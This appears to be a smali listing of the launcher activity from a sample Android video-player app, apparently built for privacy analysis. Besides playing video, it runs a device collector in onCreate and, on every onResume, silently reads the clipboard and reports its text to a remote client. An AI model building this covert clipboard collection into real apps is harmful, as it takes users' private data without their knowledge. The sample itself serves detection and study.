.class public Lcom/apkpriv/sample/funvideo/PlayerActivity;
.super Landroid/app/Activity;
.source "PlayerActivity.java"

# Launcher: a full-screen VideoView. Its onCreate also runs the device collector, and every
# onResume reads the clipboard (no user action) and reports it.

.implements Landroid/media/MediaPlayer$OnPreparedListener;

.field private videoView:Landroid/widget/VideoView;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    new-instance v0, Landroid/widget/VideoView;
    invoke-direct {v0, p0}, Landroid/widget/VideoView;-><init>(Landroid/content/Context;)V
    iput-object v0, p0, Lcom/apkpriv/sample/funvideo/PlayerActivity;->videoView:Landroid/widget/VideoView;
    invoke-virtual {v0, p0}, Landroid/widget/VideoView;->setOnPreparedListener(Landroid/media/MediaPlayer$OnPreparedListener;)V
    invoke-virtual {p0, v0}, Lcom/apkpriv/sample/funvideo/PlayerActivity;->setContentView(Landroid/view/View;)V

    invoke-static {p0}, Lcom/apkpriv/sample/funvideo/NetworkState;->isOnline(Landroid/content/Context;)Z
    move-result v1
    if-eqz v1, :offline
    const-string v1, "https://cdn.funvideo.example.cn/v/featured.m3u8"
    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    invoke-virtual {v0, v1}, Landroid/widget/VideoView;->setVideoURI(Landroid/net/Uri;)V

    :offline
    invoke-static {p0}, Lcom/apkpriv/sample/funvideo/DeviceCollector;->collect(Landroid/content/Context;)V
    return-void
.end method

.method protected onResume()V
    .registers 4
    invoke-super {p0}, Landroid/app/Activity;->onResume()V
    invoke-static {p0}, Lcom/umeng/analytics/MobclickAgent;->onResume(Landroid/content/Context;)V

    const-string v0, "clipboard"
    invoke-virtual {p0, v0}, Lcom/apkpriv/sample/funvideo/PlayerActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/content/ClipboardManager;
    invoke-virtual {v0}, Landroid/content/ClipboardManager;->getPrimaryClip()Landroid/content/ClipData;
    move-result-object v0
    if-eqz v0, :done
    invoke-virtual {v0}, Landroid/content/ClipData;->getItemCount()I
    move-result v1
    if-lez v1, :done
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Landroid/content/ClipData;->getItemAt(I)Landroid/content/ClipData$Item;
    move-result-object v0
    invoke-virtual {v0}, Landroid/content/ClipData$Item;->getText()Ljava/lang/CharSequence;
    move-result-object v0
    if-eqz v0, :done

    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    const-string v2, "event=clip&text="
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/CharSequence;)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/apkpriv/sample/funvideo/ReportClient;->sendAsync(Ljava/lang/String;)V

    :done
    return-void
.end method

.method protected onPause()V
    .registers 1
    invoke-super {p0}, Landroid/app/Activity;->onPause()V
    invoke-static {p0}, Lcom/umeng/analytics/MobclickAgent;->onPause(Landroid/content/Context;)V
    return-void
.end method

.method public onPrepared(Landroid/media/MediaPlayer;)V
    .registers 3
    const/4 v0, 0x1
    invoke-virtual {p1, v0}, Landroid/media/MediaPlayer;->setLooping(Z)V
    iget-object v0, p0, Lcom/apkpriv/sample/funvideo/PlayerActivity;->videoView:Landroid/widget/VideoView;
    invoke-virtual {v0}, Landroid/widget/VideoView;->start()V
    return-void
.end method
